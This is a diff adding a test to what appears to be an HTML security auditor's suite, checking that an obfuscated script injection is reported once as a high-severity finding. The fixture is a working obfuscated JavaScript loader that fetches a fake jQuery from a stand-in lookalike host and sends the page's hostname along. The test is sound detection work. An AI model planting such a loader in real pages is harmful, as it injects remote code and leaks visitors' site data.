@@ -554,3 +554,35 @@ def test_a_fake_jquery_in_a_literal_of_escapes_is_one_finding(audit_html: AuditH
     report = audit_html(page(loader.format(url)), url=URL)
     assert [(f.kind, f.severity) for f in report.findings] == [
         ("lookalike-script", Severity.HIGH)]
+
+
+# javascript-obfuscator's output with its string table left plain: the table names the
+# URL in plain sight, the rotated accessor's calls create the script and load it
+_OBFUSCATOR_LOADER = (
+    "(function(_0x1a2b3c,_0x4d5e6f){var _0x2b3c4d=_0x5e6f,_0x3c4d5e=_0x1a2b3c();"
+    "while(!![]){try{var _0x4d5e6f7=parseInt(_0x2b3c4d(0x1a0))/0x1+-parseInt(_0x2b3c4d(0x1a1))"
+    "/0x2;if(_0x4d5e6f7===_0x4d5e6f)break;else _0x3c4d5e['push'](_0x3c4d5e['shift']());}"
+    "catch(_0x5e6f70){_0x3c4d5e['push'](_0x3c4d5e['shift']());}}}(_0x1b2c,0x6b3d1));"
+    "function _0x1b2c(){var _0x6f7081=[\"URL\",\"createElement\",\"script\",\"src\",\"head\","
+    "\"appendChild\",\"async\",\"location\",\"hostname\"];_0x1b2c=function(){return _0x6f7081;};"
+    "return _0x1b2c();}function _0x5e6f(_0x708192,_0x8192a3){var _0x92a3b4=_0x1b2c();"
+    "return _0x5e6f=function(_0xa3b4c5,_0xb4c5d6){_0xa3b4c5=_0xa3b4c5-0x1a0;"
+    "var _0xc5d6e7=_0x92a3b4[_0xa3b4c5];return _0xc5d6e7;},_0x5e6f(_0x708192,_0x8192a3);}"
+    "(function(){var _0x1=_0x5e6f,_0x2=document[_0x1(0x1a1)](_0x1(0x1a2));"
+    "_0x2[_0x1(0x1a3)]=_0x1(0x1a0)+'?d='+window[_0x1(0x1a7)][_0x1(0x1a8)];"
+    "_0x2[_0x1(0x1a6)]=!![];document[_0x1(0x1a4)][_0x1(0x1a5)](_0x2);}());")
+
+
+def test_a_fake_jquery_in_an_obfuscators_plain_table_is_one_finding(
+        audit_html: AuditHtml) -> None:
+    """javascript-obfuscator's code whose plain string table holds a fake jQuery's URL:
+    `obfuscated-script` reads the table's URL as loaded (4c49e61) and names it high; the
+    URL in plain sight in the table was a `lookalike-script` high too (e445433), two
+    highs for one injection, where 00974b6 means one."""
+    url = "https://code.jquery-cdn.test/ajax/libs/jquery/3.7.1/jquery.min.js"
+    code = _OBFUSCATOR_LOADER.replace("URL", url)
+    report = audit_html(page("").replace("</main>", f"</main><script>{code}</script>"),
+                        url=URL)
+    assert [(f.kind, f.severity) for f in report.findings] == [
+        ("obfuscated-script", Severity.HIGH)]
+    assert url in report.findings[0].message
